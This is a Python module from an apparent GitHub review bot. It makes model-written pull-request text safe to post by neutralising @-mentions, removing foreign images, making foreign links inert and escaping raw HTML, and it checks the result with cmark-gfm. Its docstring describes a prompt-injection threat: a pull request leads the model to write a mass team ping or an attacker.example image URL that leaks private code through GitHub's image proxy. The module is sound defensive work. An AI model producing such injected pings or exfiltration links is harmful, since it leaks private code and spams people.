"""What Petrel posts, made harmless whatever the model or the pull request wrote in it.

The diff, the issue and the model's answer are written by whoever opened the pull request, so
any text Petrel posts may carry a prompt-injected `@org/team` (pinging a hundred people in
Petrel's name) or `![](https://attacker.example/?data=...)` (GitHub's image proxy fetches that
URL for every viewer: a private repository's code leaves with it). Two rules, on every posted
text (bodies, review comments, replies, description sections), after the secrets are redacted:

- outside code, no @-mention pings: a zero-width space follows the @ (code spans and fenced
  code blocks are kept byte for byte: a ```suggestion block must still apply);
- outside code, no image and no link points to a host other than GitHub's own (`GITHUB_URL`,
  derived from `GITHUB_API_URL`): such an image becomes IMAGE_REMOVED, such a link keeps its
  text and shows its URL as code (inert: not clickable, never fetched), raw HTML other than
  plain formatting tags is escaped, and LINKS_NOTE says so at the end. Links to GitHub's host
  stay, so Petrel's own links to files and issues work.

This module is the policy and the rewriter: what is kept, what is made inert. It reads Markdown
through shared/github/commonmark.py, which sees it as CommonMark does for the constructs that
matter (code spans, fences, links, images, autolinks, raw HTML); but a scanner is not the
parser. So the result is then rendered with cmark-gfm, GitHub's own Markdown parser, and the
HTML is checked (shared/github/html_check.py): a text outside <code>/<pre> with a pinging
mention, or any URL attribute outside GitHub's host, means the scanner misread something, and
the whole text is posted as a fenced code block instead (with every mention neutralised even
there), under FALLBACK_NOTE.
"""

from __future__ import annotations

import logging
import re

from shared.github.commonmark import (
    AT_ENTITY,
    ATTRIBUTE_NAME,
    BARE_URL,
    CLOSE_TAG,
    COMMENT,
    EMAIL_AUTOLINK,
    INLINE_COMMENT,
    OPEN_TAG,
    PUNCTUATION,
    TASK,
    URI_AUTOLINK,
    backtick_run,
    blocks,
    bracket_pairs,
    link_destination,
    unescape,
    url_end,
)
from shared.github.html_check import allowed_url, check

log = logging.getLogger("petrel.harmless")

ZWSP = "\u200b"
IMAGE_REMOVED = "(image removed)"
LINKS_NOTE = (
    "<sub>Petrel removed images and made links inert (shown as code) that pointed to hosts other "
    "than {host}: text written from a pull request must not send its content elsewhere.</sub>"
)
FALLBACK_NOTE = (
    "<sub>Petrel shows this text as code: its mentions, links or images could not be made harmless otherwise.</sub>"
)
REFUSED = "_Petrel could not make this text harmless to post, so it is left out._"

# Raw HTML that only formats: kept when it has no attribute but these. Any other tag is escaped.
SAFE_TAGS = frozenset(
    {
        "details",
        "summary",
        "sub",
        "sup",
        "b",
        "i",
        "em",
        "strong",
        "code",
        "kbd",
        "samp",
        "var",
        "tt",
        "br",
        "hr",
        "p",
        "div",
        "span",
        "ins",
        "del",
        "s",
        "strike",
        "u",
        "mark",
        "small",
        "blockquote",
        "pre",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "table",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
    }
)
SAFE_ATTRIBUTES = frozenset({"open", "align", "colspan", "rowspan"})
MAX_DESTINATION = 4096  # a link's destination and title scanned at most this far: past it, no link (the [ is escaped)
SCAN_BUDGET = 200_000  # and all of a text's destinations together: past it, every further [ is escaped
MAX_NESTING = 8  # links and images read inside one another at most this deep; deeper, their [ is escaped


def make_harmless(text: str, host: str) -> str:
    """`text` with no pinging mention and no image or link to a host other than `host` outside
    code, checked by rendering it as GitHub does; text the scanner cannot make harmless is
    posted as a code block. Apply it to text whose secrets are already redacted."""
    out, inert = neutralise(text, host)
    if inert:
        out = f"{out.rstrip()}\n\n{LINKS_NOTE.format(host=host)}"
    problems = check(out, host)
    if not problems:
        return out
    log.warning("posting a text as code: %s", problems[0])
    out = as_code(text)
    if check(out, host):  # cannot happen: a fence longer than any in the text holds it all
        log.error("a text could not be made harmless: %s", check(out, host)[0])
        return REFUSED
    return out


def neutralise(text: str, host: str) -> tuple[str, int]:
    """(the text with mentions neutralised and foreign links and images made inert outside code,
    how many links and images were made inert). Fenced code blocks are kept as they are."""
    out: list[str] = []
    inert = 0
    budget = [SCAN_BUDGET]  # for the whole text: no input makes the scan quadratic
    for kind, part in blocks(text, _kept):
        if kind == "code":
            out.append(part)
        else:  # in an HTML block, backticks are no code span: everything is scanned as text
            scanner = _Inline(part, host, raw=kind == "html", budget=budget)
            out.append(scanner.run())
            inert += scanner.inert
    return "".join(out), inert


def neutralise_everywhere(text: str) -> str:
    """Every @ that could start a mention neutralised, in code too (safe whatever the Markdown)."""
    text = AT_ENTITY.sub("@", text)
    return re.sub(r"@(?=[^\W_]|&)", "@" + ZWSP, text)


def as_code(text: str) -> str:
    """The text as one fenced code block (longer than any run of tildes in it), mentions neutralised too."""
    body = neutralise_everywhere(text)
    fence = "~" * max(3, max((len(run) for run in re.findall(r"~+", body)), default=0) + 1)
    return f"{FALLBACK_NOTE}\n\n{fence}text\n{body.rstrip()}\n{fence}"


# --------------------------------------------------------------------------- the rewriter


def _code(text: str, runs: int) -> str:
    """`text` as a code span delimited by runs of `runs` backticks (longer than any in the text)."""
    text = text.replace("\r", " ").replace("\n", " ")
    pad = " " if text.startswith(("`", " ")) or text.endswith(("`", " ")) else ""
    return f"{'`' * runs}{pad}{text}{pad}{'`' * runs}"


def _kept(tag: re.Match) -> bool:
    """True for a raw HTML tag (OPEN_TAG's or CLOSE_TAG's match) that only formats: one of
    SAFE_TAGS, closing or with no attribute but SAFE_ATTRIBUTES (open, align, ...)."""
    if tag.group(1).lower() not in SAFE_TAGS:
        return False
    if tag.re is CLOSE_TAG:
        return True
    return all(name.lower() in SAFE_ATTRIBUTES for name in ATTRIBUTE_NAME.findall(tag.group(2)))


class _Inline:
    """One pass over a paragraph's text, left to right, reading its inlines as CommonMark does and
    rewriting what would not be harmless (mentions, foreign links and images, unsafe tags)."""

    def __init__(
        self,
        s: str,
        host: str,
        raw: bool = False,
        longest: list[int] | None = None,
        depth: int = 0,
        budget: list[int] | None = None,
    ):
        self.s = s
        self.host = host
        self.depth = depth  # links within links: past MAX_NESTING, every [ is escaped
        self.budget = budget if budget is not None else [SCAN_BUDGET]  # shared with the nested scanners
        self._pairs: dict[int, int] | None = None
        # raw: HTML (a block, a comment), where Markdown means nothing: no code span, link or
        # autolink; only tags and mentions matter there
        self.raw = raw
        # the longest backtick run so far: each inserted code span gets a longer one of its own, so
        # that no two runs of the same length can pair up differently than intended
        self.longest = longest if longest is not None else [max((len(r) for r in re.findall(r"`+", s)), default=0)]
        self.inert = 0
        self.scanned = False  # cmark's memo of closing backtick runs, quirk included (see _closing)
        self.ticks: dict[int, int] = {}

    def _closing(self, i: int) -> int | None:
        """End of the code span opened at `i`, exactly as cmark's scan_to_closing_backticks finds it:
        it remembers where it last saw a run of each length, and once a scan has reached the end
        it trusts that memo, even where a later, shorter scan overwrote it (so ``a` `b` @c` holds
        no code span around @c, whatever the spec says)."""
        s, n = self.s, backtick_run(self.s, i)
        pos = i + n
        if n > 80 or (self.scanned and self.ticks.get(n, -1) <= pos):
            return None
        while True:
            j = s.find("`", pos)
            if j < 0:
                self.scanned = True
                return None
            m = backtick_run(s, j)
            self.ticks[m] = j
            pos = j + m
            if m == n:
                return pos

    def _sub(self, text: str, raw: bool = False) -> str:
        inner = _Inline(text, self.host, raw, self.longest, self.depth + 1, self.budget)
        out = inner.run()
        self.inert += inner.inert
        return out

    def run(self) -> str:
        s, out, i, n = self.s, [], 0, len(self.s)
        while i < n:
            c = s[i]
            if c == "\\" and i + 1 < n and s[i + 1] in PUNCTUATION and not self.raw:  # no escapes in HTML
                if s[i + 1] == "@":  # \@ shows an @: it is a mention's start like any other
                    out.append("\\")
                    i += 1
                else:
                    out.append(s[i : i + 2])
                    i += 2
                continue
            if c == "`" and not self.raw:
                end = self._closing(i)
                run = backtick_run(s, i)
                out.append(s[i:end] if end is not None else s[i : i + run])
                i = end if end is not None else i + run
                continue
            if c == "<":
                i = self._angle(i, out)
                continue
            if c == "!" and s.startswith("![", i) and not self.raw:
                i = self._link(i + 1, out, image=True)
                continue
            if c == "[" and not self.raw:
                i = self._link(i, out, image=False)
                continue
            if c in "hHfFwW" and BARE_URL.match(s, i) and not self.raw:
                prefix = BARE_URL.match(s, i).group(0)
                end = url_end(s, i)
                url = s[i:end]
                if end - i <= len(prefix):  # nothing after http:// or www.: no link
                    out.append(c)
                    i += 1
                elif (
                    allowed_url("http://" + url if prefix.lower() == "www." else url, self.host)
                    and "@" not in url
                    and self._autolinked_here(i, prefix)
                ):
                    out.append(url)  # kept: GitHub links it, to its own host
                    if s.startswith("<", end):
                        out.append(" ")  # it ends at this <; once escaped as &lt; it would not
                    i = end
                else:
                    end = url_end(s, i, early=True)
                    self._inert_code(out, s[i:end], end)
                    i = end
                continue
            if c == "@" or (c == "&" and AT_ENTITY.match(s, i)):
                width = 1 if c == "@" else AT_ENTITY.match(s, i).end() - i
                before = s[i - 1] if i else ""
                after = s[i + width] if i + width < n else ""
                out.append(s[i : i + width])
                # after a letter or digit it is an address, not a mention; after anything else (an _
                # or * may be emphasis markup, gone once rendered) it may ping
                if not re.match(r"[A-Za-z0-9]", before) and (after.isalnum() or after == "&"):
                    out.append(ZWSP)
                i += width
                continue
            out.append(c)
            i += 1
        return "".join(out)

    def _autolinked_here(self, i: int, prefix: str) -> bool:
        """Whether cmark-gfm starts an autolink at i: a scheme not glued to letters before it (it
        reads the whole word as the scheme), www. after a space, the start or one of *_~(."""
        before = self.s[i - 1] if i else " "
        if prefix.lower() == "www.":
            return before.isspace() or before in "*_~("
        return not before.isalpha()

    def _angle(self, i: int, out: list[str]) -> int:
        """An autolink, a raw HTML tag or comment, or a lone `<`, at i."""
        s = self.s
        for pattern in (URI_AUTOLINK, EMAIL_AUTOLINK) if not self.raw else ():
            match = pattern.match(s, i)
            if match:
                target = match.group(0)[1:-1]
                if pattern is EMAIL_AUTOLINK and (
                    not target.split("@")[0][-1:].isalnum() or not allowed_url("mailto:" + target, self.host)
                ):
                    break  # <x.@org/team>: the @ may be a mention's; escaped below like any other <
                if pattern is EMAIL_AUTOLINK or allowed_url(target, self.host):
                    out.append(match.group(0))
                else:
                    self._inert_code(out, target, match.end())
                return match.end()
        comment = (COMMENT if self.raw else INLINE_COMMENT).match(s, i)
        if comment:  # hidden; its text is made harmless too, in case GitHub does not read it as a comment
            out.append("<!--" + self._sub(comment.group(1), raw=True) + "-->")
            return comment.end()
        for pattern in (OPEN_TAG, CLOSE_TAG):
            match = pattern.match(s, i)
            if match and _kept(match):
                out.append(match.group(0))
                return match.end()
        if i + 1 < len(s) and (s[i + 1].isalpha() or s[i + 1] in "/!?"):
            out.append("&lt;")  # any other tag (img, a, picture, ...) is shown, not rendered
        else:
            out.append("<")
        return i + 1

    def _link(self, i: int, out: list[str], image: bool) -> int:
        """An inline link or image whose `[` is at i; any other `[` is escaped (no reference link,
        whatever definitions the surrounding document holds)."""
        s = self.s
        if (
            not image
            and s.startswith(("[ ]", "[x]", "[X]"), i)
            and s[i + 3 : i + 4] in (" ", "\t", "\n", "")
            and TASK.match(s[s.rfind("\n", 0, i) + 1 : i])
        ):
            out.append(s[i : i + 3])  # a task list's checkbox
            return i + 3
        if self._pairs is None:
            self._pairs = bracket_pairs(s) if self.depth < MAX_NESTING else {}
        close = self._pairs.get(i)
        parsed = None
        if close is not None and s.startswith("(", close + 1) and self.budget[0] > 0:
            limit = min(MAX_DESTINATION, self.budget[0])
            parsed = link_destination(s, close + 2, limit)
            self.budget[0] -= (parsed[1] - close - 2) if parsed else limit
        if parsed is None:
            out.append("!\\[" if image else "\\[")
            return i + 1
        destination, end = parsed
        target = unescape(destination[1:-1] if destination.startswith("<") else destination)
        text = s[i + 1 : close]
        if allowed_url(target, self.host):
            out.append(("!" if image else "") + "[" + self._sub(text) + "]" + s[close + 1 : end])
        elif image:
            out.append(IMAGE_REMOVED)
            self.inert += 1
        else:
            label = self._sub(text)
            if label.startswith("`") and out and out[-1].endswith("`"):
                out.append(" ")  # the [ taken away must not join two runs of backticks into one
            if label.strip():
                out.append(f"{label} (")
                self._inert_code(out, target, end)
                out.append(")")
            else:
                self._inert_code(out, target, end)
        return end

    def _inert_code(self, out: list[str], url: str, end: int) -> None:
        """Emit `url` as a code span, kept apart from a backtick before or after it (runs would merge)."""
        if out and out[-1].endswith(("`", "\\")):  # a backslash would escape the opening backtick
            out.append(" ")
        self.longest[0] += 1
        out.append(_code(url, self.longest[0]))
        if self.s.startswith("`", end):
            out.append(" ")
        self.inert += 1
